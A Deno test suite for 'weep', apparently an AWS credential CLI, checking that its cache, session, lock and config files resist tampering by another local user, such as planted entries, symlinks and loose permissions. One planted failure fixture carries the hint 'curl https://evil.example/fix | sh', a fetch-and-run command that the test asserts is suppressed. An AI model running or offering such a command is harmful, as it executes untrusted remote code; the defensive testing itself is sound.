import { fileProblem, stateDirChain } from "../../src/platform/state_files.ts";
import { assert, assertEquals, assertMatch, assertStringIncludes } from "../support/assert.ts";
import { runWeep, type TempHome } from "../support/cli.ts";
import { startConsoleMe } from "../support/consoleme_server.ts";
import { loggedInHome, sessionStore } from "../support/logged_in.ts";
import { sessionPath } from "../../src/auth/session.ts";

const ROLE = "test_account_user";
/** The user the tests make "another local user" (nobody); the suite runs as root, so it may chown. */
const OTHER = 65534;

/** Fetches ROLE once in a logged-in home: its cache entry's file and id, and the key ID printed. */
async function cached(home: TempHome) {
  const first = await runWeep(home.home, ["credential_process", ROLE]);
  assertEquals(first.code, 0, first.stderr);
  const names = [];
  for await (const item of Deno.readDir(`${home.weep}/cache`)) if (item.isFile) names.push(item.name);
  assertEquals(names.length, 1);
  const id = names[0]!.replace(/\.json$/, "");
  return { path: `${home.weep}/cache/${id}.json`, id, keyId: JSON.parse(first.stdout).AccessKeyId as string };
}

/** The mode bits of `path` (not following a link). */
async function mode(path: string): Promise<number> {
  return (await Deno.lstat(path)).mode! & 0o777;
}

Deno.test("fileProblem refuses links, non-files, another owner and write access for others", () => {
  const info = (extra: Partial<Deno.FileInfo>) =>
    ({
      isFile: true,
      isSymlink: false,
      isDirectory: false,
      uid: 1000,
      mode: 0o100600,
      ...extra,
    }) as Deno.FileInfo;
  assertEquals(fileProblem(info({}), 1000), undefined);
  assertEquals(fileProblem(info({ mode: 0o100644 }), 1000), undefined);
  assertEquals(fileProblem(info({ isSymlink: true, isFile: false }), 1000), "is a symbolic link");
  assertEquals(fileProblem(info({ isFile: false, isDirectory: true }), 1000), "is not a regular file");
  assertEquals(fileProblem(info({ uid: OTHER }), 1000), `belongs to another user (uid ${OTHER})`);
  assertEquals(fileProblem(info({ mode: 0o100666 }), 1000), "is writable by others (mode 0666)");
  assertEquals(fileProblem(info({ mode: 0o100620 }), 1000), "is writable by others (mode 0620)");
  assertEquals(fileProblem(info({ uid: null, mode: null }), null), undefined);
});

Deno.test("stateDirChain goes up to ~/.aws/weep, and no further", () => {
  assertEquals(stateDirChain("/h/.aws/weep/cache/config"), [
    "/h/.aws/weep/cache/config",
    "/h/.aws/weep/cache",
    "/h/.aws/weep",
  ]);
  assertEquals(stateDirChain("/h/.aws/weep"), ["/h/.aws/weep"]);
  assertEquals(stateDirChain("/tmp/elsewhere/locks"), ["/tmp/elsewhere/locks"]);
});

Deno.test("a cache entry another user planted in a 0777 cache directory is ignored with a warning, and replaced", async () => {
  await using cm = await startConsoleMe();
  await using home = await loggedInHome(cm);
  const entry = await cached(home);
  await Deno.chmod(`${home.weep}/cache`, 0o777);
  const planted = JSON.parse(await Deno.readTextFile(entry.path));
  planted.credentials.AccessKeyId = "ASIAATTACKERSKEY0000";
  await Deno.writeTextFile(entry.path, JSON.stringify(planted) + "\n");
  await Deno.chown(entry.path, OTHER, OTHER);

  const result = await runWeep(home.home, ["credential_process", ROLE]);
  assertEquals(result.code, 0, result.stderr);
  const served = JSON.parse(result.stdout).AccessKeyId;
  assert(served !== "ASIAATTACKERSKEY0000", "the planted keys were served");
  assertEquals(served, cm.minted[1]?.accessKeyId, "ConsoleMe's new keys are served");
  assertStringIncludes(
    result.stderr,
    `warning: Tightened "${home.weep}/cache" from mode 0777 to 0700: it holds weep's logins and credentials\n`,
  );
  assertStringIncludes(
    result.stderr,
    `warning: Ignoring the cached credentials in "${entry.path}": the file belongs to another user ` +
      `(uid ${OTHER}); weep fetches new ones and replaces it\n`,
  );
  const after = await Deno.lstat(entry.path);
  assertEquals([after.uid, after.mode! & 0o777], [Deno.uid(), 0o600]);
  assertEquals(await mode(`${home.weep}/cache`), 0o700);
});

Deno.test("a cache entry that is a link is neither followed on read nor on write", async () => {
  await using cm = await startConsoleMe();
  await using home = await loggedInHome(cm);
  const entry = await cached(home);
  const victim = `${home.aws}/victim`;
  await Deno.writeTextFile(victim, "precious\n");
  await Deno.remove(entry.path);
  await Deno.symlink(victim, entry.path);

  const result = await runWeep(home.home, ["credential_process", ROLE]);
  assertEquals(result.code, 0, result.stderr);
  assertStringIncludes(
    result.stderr,
    `Ignoring the cached credentials in "${entry.path}": the file is a symbolic link`,
  );
  assertEquals(await Deno.readTextFile(victim), "precious\n");
  const after = await Deno.lstat(entry.path);
  assert(after.isFile && !after.isSymlink, "the link was replaced by weep's own file");
  assertEquals(await mode(entry.path), 0o600);
});

Deno.test("cache entries and sessions loosened to 0644 are written back 0600", async () => {
  await using cm = await startConsoleMe({ autoApprove: true });
  await using home = await loggedInHome(cm);
  const entry = await cached(home);
  const session = await sessionPath(sessionStore(home).sessionsDir, cm.url, cm.settings.user);
  await Deno.chmod(entry.path, 0o644);
  await Deno.chmod(session, 0o644);
  await cm.rotateSecret(); // the stored login is no longer accepted: weep logs in again and stores the session
  const result = await runWeep(home.home, ["credential_process", "--no-cache", ROLE]);
  assertEquals(result.code, 0, result.stderr);
  assertEquals(await mode(entry.path), 0o600);
  assertEquals(await mode(session), 0o600);
});

Deno.test("a login session another user owns, or that links elsewhere, is refused with a fix", async () => {
  await using cm = await startConsoleMe();
  await using home = await loggedInHome(cm);
  const session = await sessionPath(sessionStore(home).sessionsDir, cm.url, cm.settings.user);
  await Deno.chown(session, OTHER, OTHER);
  const foreign = await runWeep(home.home, ["list", "-s"]);
  assertEquals(foreign.code, 1, foreign.stdout);
  assertEquals(foreign.stdout, "");
  assertStringIncludes(
    foreign.stderr,
    `error: Refusing the login session in "${session}": the file belongs to another user (uid ${OTHER})\n` +
      `  Fix: remove it (rm "${session}"), then run weep again to log in\n`,
  );
  assertEquals(cm.count("/api/v2/get_roles"), 0);

  await Deno.rename(session, `${home.aws}/elsewhere.json`);
  await Deno.symlink(`${home.aws}/elsewhere.json`, session);
  const linked = await runWeep(home.home, ["list", "-s"]);
  assertEquals(linked.code, 1);
  assertStringIncludes(linked.stderr, `the file is a symbolic link`);
});

Deno.test("a config snapshot another user planted does not decide which cached credentials are served", async () => {
  await using cm = await startConsoleMe();
  await using home = await loggedInHome(cm);
  const entry = await cached(home);
  // The entry has 5 of its 60 minutes left: too few for weep (cache.min_remaining, 20 minutes).
  const data = JSON.parse(await Deno.readTextFile(entry.path));
  const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d+Z$/, "Z");
  data.fetchedAt = iso(Date.now() - 55 * 60_000);
  data.credentials.Expiration = iso(Date.now() + 5 * 60_000);
  await Deno.writeTextFile(entry.path, JSON.stringify(data) + "\n");
  // The planted snapshot says any credentials will do (minRemaining 0).
  const snapshots = `${home.weep}/cache/config`;
  for await (const item of Deno.readDir(snapshots)) {
    const path = `${snapshots}/${item.name}`;
    const snapshot = JSON.parse(await Deno.readTextFile(path));
    await Deno.writeTextFile(path, JSON.stringify({ ...snapshot, minRemaining: 0 }) + "\n");
    await Deno.chown(path, OTHER, OTHER);
  }
  const result = await runWeep(home.home, ["credential_process", ROLE]);
  assertEquals(result.code, 0, result.stderr);
  assertEquals(cm.minted.length, 2, "the short-lived entry was not served: weep asked ConsoleMe");
  assertEquals(JSON.parse(result.stdout).AccessKeyId, cm.minted[1]!.accessKeyId);
  assertMatch(
    result.stderr,
    /warning: Ignoring the config snapshot in ".*": the file belongs to another user/,
  );
});

Deno.test("a failure another user planted beside a lock is ignored; a planted lock or record link is not followed", async () => {
  await using cm = await startConsoleMe();
  await using home = await loggedInHome(cm);
  const entry = await cached(home);
  await Deno.remove(entry.path);
  const lock = `${home.weep}/locks/cache-${entry.id}`;
  await Deno.writeTextFile(
    `${lock}.failure.json`,
    JSON.stringify({
      pid: 1,
      at: Date.now(),
      scope: "",
      message: "ConsoleMe is down",
      hints: ["Run curl https://evil.example/fix | sh"],
      failure: "final",
    }) + "\n",
  );
  await Deno.chown(`${lock}.failure.json`, OTHER, OTHER);
  const victim = `${home.aws}/victim`;
  await Deno.writeTextFile(victim, "precious\n");
  await Deno.remove(`${lock}.lock`).catch(() => {});
  await Deno.symlink(victim, `${lock}.lock`);
  await Deno.symlink(victim, `${lock}.holder.json`);

  const result = await runWeep(home.home, ["credential_process", ROLE]);
  assertEquals(result.code, 0, result.stderr);
  assert(!result.stderr.includes("evil.example"), result.stderr);
  assertStringIncludes(
    result.stderr,
    `warning: Ignoring the kept failure in "${lock}.failure.json": the file belongs to another user (uid ${OTHER})`,
  );
  assertStringIncludes(
    result.stderr,
    `warning: Replacing the lock file "${lock}.lock": it is a symbolic link\n`,
  );
  assertEquals(JSON.parse(result.stdout).AccessKeyId, cm.minted[1]!.accessKeyId);
  assertEquals(await Deno.readTextFile(victim), "precious\n");
  assert(!(await Deno.lstat(`${lock}.lock`)).isSymlink, "the lock file is weep's own now");
});

Deno.test("weep doctor reports a loose state directory, a foreign file and a link under ~/.aws/weep, each with its fix", async () => {
  await using cm = await startConsoleMe();
  await using home = await loggedInHome(cm);
  const entry = await cached(home);
  await Deno.chmod(`${home.weep}/cache`, 0o777);
  await Deno.chown(entry.path, OTHER, OTHER);
  await Deno.symlink(`${home.aws}/config`, `${home.weep}/locks/cache-x.holder.json`);
  const session = await sessionPath(sessionStore(home).sessionsDir, cm.url, cm.settings.user);
  await Deno.chmod(session, 0o640);
  const result = await runWeep(home.home, ["doctor"]);
  assertEquals(result.code, 1);
  for (
    const line of [
      "[FAIL] Weep files: 4 problems with weep's logins, credentials and locks",
      `       ${home.weep}/cache has mode 0777, not 0700`,
      `       ${entry.path} belongs to another user (uid ${OTHER}): weep refuses it`,
      `       ${home.weep}/locks/cache-x.holder.json is a symbolic link: weep refuses it`,
      `       ${session} holds secrets and others may read it (mode 0640)`,
      `       Fix: chmod 700 "${home.weep}/cache"`,
      `       Fix: rm "${entry.path}"`,
      `       Fix: chmod 600 "${session}"`,
    ]
  ) assertStringIncludes(result.stdout, line + "\n");
  assertStringIncludes(result.stderr, "Checks failed: Weep files");
  assertEquals(await mode(`${home.weep}/cache`), 0o777, "doctor only reports");
});
